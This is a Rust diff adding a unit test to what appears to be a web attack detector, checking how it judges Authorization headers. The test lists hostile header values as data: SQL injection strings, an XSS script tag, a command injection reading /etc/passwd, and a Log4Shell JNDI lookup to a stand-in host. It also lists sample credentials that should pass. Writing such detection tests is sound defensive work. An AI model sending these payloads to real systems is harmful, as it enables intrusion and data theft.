@@ -1019,3 +1019,56 @@ proptest::proptest! {
         proptest::prop_assert_eq!(judged(&v, true), judged(&v, false));
     }
 }
+
+/// The classes and points of the attack `req` raises, empty for none.
+fn found(req: &[u8]) -> Vec<(String, String)> {
+    let mut d = Detector::new(DetectConfig::default());
+    let mut out = vec![];
+    for t in raw::transactions(req, OK.as_bytes()) {
+        d.push(&t, &mut |r| out.push(r));
+    }
+    attack(&out).map_or(vec![], |a| {
+        a.hits.into_iter().map(|h| (h.class, h.point)).collect()
+    })
+}
+
+/// A malformed `Authorization` credential is judged as a value; a
+/// well-formed one (one token68, or a list of auth-params) is not, and a
+/// Log4j lookup is still found in either.
+#[test]
+fn authorization_judged_when_malformed() {
+    let auth = |v: &str| found(get("/api/me", &format!("Authorization: {v}\r\n")).as_bytes());
+    for (value, class) in [
+        ("Bearer ' or '1'='1", "sqli"),
+        ("Bearer <script>alert(1)</script>", "xss"),
+        ("Basic ' union select password from users--", "sqli"),
+        ("Token x; cat /etc/passwd", "rce"),
+        ("' or '1'='1", "sqli"),
+        ("Bearer ${jndi:ldap://evil.example/a}", "log4shell"),
+        ("${jndi:ldap://evil.example/a}", "log4shell"),
+    ] {
+        let got = auth(value);
+        assert!(
+            got.iter()
+                .any(|(c, p)| c == class && p == "header.Authorization"),
+            "{value:?}: {got:?}"
+        );
+    }
+    for value in [
+        "Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
+        "Basic dXNlcjpwYXNz",
+        "Basic J29yIDE9MS0tOmJ5ZQ==",
+        "Negotiate YIIGhgYGKwYBBQUCoIIGejCCBnagMDAuBgkqhkiC9xIBAgIGCSqGSIb3EgECAgYKKwYBBAGCNwICHgYKKwYBBAGCNwICCqKCBkAEggY8",
+        "NTLM TlRMTVNTUAABAAAAB4IIogAAAAAAAAAAAAAAAAAAAAAGAbEdAAAADw==",
+        "Negotiate",
+        r#"Digest username="Mufasa", realm="testrealm@host.com", nonce="dcd98b7102dd2f0e8b11d0f600bfb0c093", uri="/dir/index.html?a=1&b=2", qop=auth, nc=00000001, cnonce="0a4f113b", response="6629fae49393a05397450978507c4ef1", opaque="5ccc069c403ebaf9f0171e9517f40e41", algorithm=MD5-sess"#,
+        "AWS4-HMAC-SHA256 Credential=AKIAIOSFODNN7EXAMPLE/20130524/us-east-1/s3/aws4_request, SignedHeaders=host;range;x-amz-content-sha256;x-amz-date, Signature=fe5f80f77d5fa3beca038a248ff027d0445342fe2855ddc963176630326f1024",
+        r#"OAuth oauth_consumer_key="xvz1evFS4wEEPTGEFPHBog", oauth_nonce="kYjzVBB8Y0ZFabxSWbWovY3uYSQ2pTgmZeNu2VS4cg", oauth_signature="tnnArxj06cWHq44gCs1OSKk%2FjY%3D", oauth_signature_method="HMAC-SHA1", oauth_timestamp="1318622958", oauth_token="370773112-GmHxMAgYyLbNEtIKZeRNFsMKPR9EyMZeS9weJAEb", oauth_version="1.0""#,
+        "AWS AKIAIOSFODNN7EXAMPLE:frJIUN8DYpKDtOLCwo//yLllqDzg=",
+        "SharedKey myaccount:ctzMq410TV3wS7upTBcunJTDLEJwMAZuFPfr0mrrA08=",
+        "token ghp_16C7e42F292c6912E7710c838347Ae178B4a",
+        "sk_live_4eC39HqLyjWDarjtT1zdp7dc",
+    ] {
+        assert_eq!(auth(value), vec![], "{value:?}");
+    }
+}
